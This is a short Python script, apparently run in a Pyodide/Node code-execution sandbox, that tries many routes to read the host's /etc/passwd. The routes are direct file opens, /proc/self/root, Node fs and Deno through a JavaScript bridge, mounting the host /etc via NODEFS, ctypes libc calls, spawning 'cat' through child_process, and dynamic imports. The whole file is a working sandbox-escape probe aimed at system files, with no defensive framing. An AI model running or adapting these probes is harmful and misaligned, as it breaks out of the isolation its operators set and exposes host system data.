T('open',lambda:open('/etc/passwd').read())
T('os.open',lambda:__import__('os').read(__import__('os').open('/etc/passwd',0),200))
T('proc root',lambda:open('/proc/self/root/etc/passwd').read())
T('js fs',lambda:JS(MOD('fs')+".readFileSync('/etc/passwd','utf8')"))
T('deno',lambda:JS("Deno.readTextFileSync('/etc/passwd')"))
T('kFs',lambda:NODEFS().readFileSync('/etc/passwd','utf8'))
def m():
    import pyodide_js; pyodide_js.mountNodeFS('/mnt1','/etc'); return open('/mnt1/passwd').read()
T('mountNodeFS',m)
def m2():
    import pyodide_js,os; os.makedirs('/mnt2',exist_ok=True); FS=pyodide_js.FS; from pyodide.ffi import to_js; O=pyodide_js.lockfile.constructor; FS.mount(FS.filesystems.NODEFS,to_js({'root':'/etc'},dict_converter=O.fromEntries),'/mnt2'); return open('/mnt2/passwd').read()
T('FS.mount NODEFS',m2)
def ct():
    import ctypes; l=ctypes.CDLL(None); b=ctypes.create_string_buffer(200); fd=l.open(b'/etc/passwd',0); n=l.read(fd,b,200); return b.value
T('ctypes',ct)
T('realpath',lambda:JS(MOD('fs')+".realpathSync.native('/etc/passwd')"))
T('execFile',lambda:JS(MOD('child_process')+".execFileSync('cat',['/etc/passwd']).toString()"))
async def main(i):
    try:
        import pyodide_js
        u=await pyodide_js._api.loadBinaryFile('/etc/passwd'); P('loadBinaryFile',bytes(u.to_py())[:60])
    except BaseException as e: P('no loadBinaryFile',type(e).__name__,str(e)[:100])
    try:
        r=await JS("import('node:fs').then(f=>f.readFileSync('/etc/passwd','utf8'))"); P('dyn import',r[:60])
    except BaseException as e: P('no import()',type(e).__name__,str(e)[:100])
await main(inputs)
